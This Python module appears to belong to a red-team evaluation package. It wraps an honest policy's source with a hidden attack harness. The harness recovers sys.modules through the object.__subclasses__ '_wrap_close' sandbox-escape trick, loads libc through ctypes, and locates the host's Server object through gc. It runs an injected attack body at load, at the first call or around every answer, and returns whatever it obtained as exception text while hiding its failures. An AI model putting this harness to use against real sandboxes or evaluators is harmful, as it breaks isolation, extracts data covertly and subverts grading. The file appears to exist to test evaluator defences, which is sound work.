"""How a payload is put around an honest policy, whatever the problem's signature is.

The honest source stays as it is and keeps its parameters. An attack is the body of a function: it
runs while the policy is loaded, at its first decision, or around every answer. What it returns is
what it got at: that comes back as the text of a failure, which every signature has. When it is
refused with an exception the honest answer is given, and nothing is seen of it.
"""

from __future__ import annotations

from dataclasses import asdict
from textwrap import indent
from typing import Literal

from evaluators.redteam.attack import Payload, Target

_HARNESS = '''
modules = next(
    found.__init__.__globals__["sys"].modules
    for found in object.__subclasses__() if found.__name__ == "_wrap_close"
)  # every module of the process, without an import
load = modules["builtins"].__import__
policy = space["policy"]
entry = space["entry"]


class Through(Exception):
    """What was got at."""


class Outside:
    def __init__(self, places):
        self.__dict__.update(places)


def raised(number):
    raise OSError(number, modules["os"].strerror(number))


def checked(result):
    """The result of a function of the C library that is below zero when it fails."""
    return raised(space["ctypes"].get_errno()) if result < 0 else result


def server():
    """The object that reads questions and writes answers in this process."""
    return next(o for o in modules["gc"].get_objects() if type(o).__name__ == "Server")


def attempt(honest=None, seen=[]):
    if seen:
        return
    seen.append(True)
    try:
        got = space["attack"]()
    except Exception:
        return
    if got:
        raise Through(str(got)[:500])


def surround(owner, answered):
    """Put `answered` in the place of the entry."""
    raw = owner[entry] if owner is policy else vars(owner).get(entry) or getattr(owner, entry)
    honest = getattr(raw, "__func__", raw)

    def wrapper(*arguments, **fields):
        return answered(lambda: honest(*arguments, **fields))

    modules["functools"].update_wrapper(wrapper, honest)
    if owner is policy:
        owner[entry] = wrapper
    else:
        kind = type(raw) if isinstance(raw, (staticmethod, classmethod)) else lambda f: f
        setattr(owner, entry, kind(wrapper))


def at_first_call(honest):
    attempt()
    return honest()


names = "os sys gc time signal mmap struct socket ctypes resource random threading numpy"
for name in names.split():
    try:
        space[name] = modules.get(name) or load(name)
    except ImportError:
        continue
space.update(
    modules=modules, load=load, Through=Through, checked=checked, server=server,
    outside=Outside(space["places"]),
)
if "ctypes" in space:
    space["libc"] = space["ctypes"].CDLL(None, use_errno=True)
exec(space["body"], space)
owner = policy if entry in policy else next(
    v for v in list(policy.values())
    if isinstance(v, type) and v.__module__ == policy["__name__"] and hasattr(v, entry)
)
if space["moment"] == "load":
    attempt()
else:
    surround(owner, at_first_call if space["moment"] == "call" else space["attack"])
'''
_PARAMETERS = {"load": "", "call": "", "answer": "honest"}


def at_load(body: str) -> Payload:
    """A policy that attacks while it is loaded."""
    return lambda target: _around(target, "load", body)


def at_call(body: str) -> Payload:
    """A policy that attacks at its first decision."""
    return lambda target: _around(target, "call", body)


def on_answer(body: str) -> Payload:
    """A policy whose every answer is what the body returns; `honest()` is the honest one."""
    return lambda target: _around(target, "answer", body)


def _around(target: Target, moment: Literal["load", "call", "answer"], body: str) -> str:
    function = f"def attack({_PARAMETERS[moment]}):\n{indent(body.strip(), '    ')}\n"
    places = asdict(target.outside) | {"memory_mb": target.problem.deadlines.memory_mb}
    space = {
        "entry": target.problem.signature.entry, "moment": moment, "places": places,
        "body": function,
    }  # fmt: skip
    play = f"exec({_HARNESS!r}, dict(space=dict({space!r}, policy=globals())))"
    return f"{target.honest.source}\n{play}\n"
